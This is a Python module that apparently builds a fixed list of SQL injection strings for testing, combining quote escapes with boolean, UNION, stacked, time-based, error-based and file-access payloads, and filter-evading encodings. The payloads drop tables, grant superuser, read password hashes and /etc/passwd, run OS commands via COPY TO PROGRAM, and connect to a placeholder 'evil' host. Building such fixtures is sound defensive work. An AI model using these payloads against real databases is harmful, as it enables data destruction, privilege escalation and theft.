"""Strings that mean harm to whoever pastes them into SQL: each way out of a quotation with each kind of payload, and a choice
of them in every disguise. They are the same in every run."""

import re
from itertools import chain, zip_longest
from urllib.parse import quote

# What ends the place that a string was pasted into: a literal, a name, parentheses, a pattern, a piece of JSON, a comment.
WAYS_OUT = ("'", '"', "')", "'))", "\\'", "%'", "''", "`", "$$", "*/", "1", "1)", "\"}'", "]'", "'::text", "null")
PAYLOADS = {
    "boolean": ("OR 1=1", "OR 'a'='a'", "AND 1=2", "OR true", "OR NOT false", "OR name LIKE '%'", "OR 1 IN (1)"),
    "union": (
        "UNION SELECT NULL",
        "UNION ALL SELECT version()",
        "UNION SELECT current_user, 2",
        "UNION SELECT tablename FROM pg_tables",
        "INTERSECT SELECT 1",
        "EXCEPT SELECT 1",
    ),
    "stacked": (
        "; DROP TABLE shows",
        "; DROP TABLE episodes CASCADE",
        "; DELETE FROM episodes",
        "; UPDATE users SET email = NULL",
        "; TRUNCATE activity_logs",
        "; CREATE TABLE stolen AS SELECT 1",
        "; ALTER ROLE CURRENT_USER SUPERUSER",
        "; SET ROLE postgres",
        "; COMMIT",
        "; DO $x$BEGIN PERFORM 1; END$x$",
    ),
    "time": (
        "; SELECT pg_sleep(9)",
        "OR (SELECT 1 FROM pg_sleep(9)) IS NULL",
        "|| pg_sleep(9)",
        "AND 1 = (CASE WHEN true THEN (SELECT 1 FROM pg_sleep(9)) END)",
    ),
    "error": (
        "AND 1 = CAST(version() AS int)",
        "AND 1 = (SELECT 1/0)",
        "|| (SELECT rolpassword FROM pg_authid LIMIT 1)",
        "AND extractvalue(1, 2)",
    ),
    "order": (", (SELECT 1)", "ASC, 1", "DESC NULLS FIRST", "USING >", "LIMIT 0 OFFSET 9", 'COLLATE "C"', ", random()"),
    "files": (
        "; COPY shows TO PROGRAM 'id'",
        "; SELECT pg_read_file('PG_VERSION')",
        "; SELECT lo_import('/etc/passwd')",
        "; SELECT dblink_connect('host=evil')",
    ),
}
# What makes nothing of the rest of the statement, or goes on with it.
ENDS = ("--", ";--", "/*", "#", "", "OR 'x'='x", 'OR ("x"="x', "--\t-")
PER_PAYLOAD = 4

DISGUISED = (
    "' OR 1=1--",
    "'; DROP TABLE shows--",
    "') UNION SELECT current_user--",
    '" OR "a"="a',
    "1; SELECT pg_sleep(9)--",
    "name DESC, (SELECT 1)",
)


def unquoted(text: str) -> str:
    """As a call of chr for each quotation mark."""
    return text.replace("'", "'||chr(39)||'")


# By name: the same string as something else takes it for harmless.
DISGUISES = {
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "overlong UTF-8": lambda text: text.replace("'", "%c0%a7").replace('"', "%c0%a2"),
    "Postgres' escapes": lambda text: "E'" + text.replace("'", "\\x27").replace('"', "\\x22"),
    "Postgres' Unicode": lambda text: "U&'" + text.replace("'", "\\0027").replace('"', "\\0022"),
    "JSON's escapes": lambda text: text.replace("'", "\\u0027").replace('"', "\\u0022"),
    "markup": lambda text: text.replace("'", "&#39;").replace('"', "&quot;"),
    "chr": unquoted,
    "wide letters": lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    "other apostrophes": lambda text: text.replace("'", "\u02bc").replace('"', "\u201d"),
    "mixed case": lambda text: "".join(c.upper() if n % 2 else c.lower() for n, c in enumerate(text)),
    "comments for spaces": lambda text: text.replace(" ", "/**/"),
    "tabs for spaces": lambda text: text.replace(" ", "\t"),
    "lines for spaces": lambda text: text.replace(" ", "\n"),
    "no-break spaces": lambda text: text.replace(" ", "\u00a0"),
    "plus for spaces": lambda text: text.replace(" ", "+"),
}


def _plain(payloads: tuple[str, ...], offset: int) -> list[str]:
    """Each payload behind some of the ways out, so that all of them come up."""
    made = []
    for number, payload in enumerate(payloads, offset):
        for turn in range(PER_PAYLOAD):
            place = number * PER_PAYLOAD + turn
            way_out, end = WAYS_OUT[place % len(WAYS_OUT)], ENDS[(place + number) % len(ENDS)]
            made.append(re.sub(r" (?=;)", "", f"{way_out} {payload} {end}").strip())
    return made


def _by_family() -> dict[str, tuple[str, ...]]:
    made, offset = {}, 0
    for family, payloads in PAYLOADS.items():
        made[family] = tuple(dict.fromkeys(_plain(payloads, offset)))
        offset += len(payloads)
    for name, disguise in DISGUISES.items():
        made[name] = tuple(dict.fromkeys(disguise(text) for text in DISGUISED if disguise(text) not in DISGUISED))
    return made


BY_FAMILY = _by_family()
# In turn of every family, so that any run of neighbours has many of them.
SQL_STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(text for text in chain.from_iterable(zip_longest(*BY_FAMILY.values())) if text is not None)
)
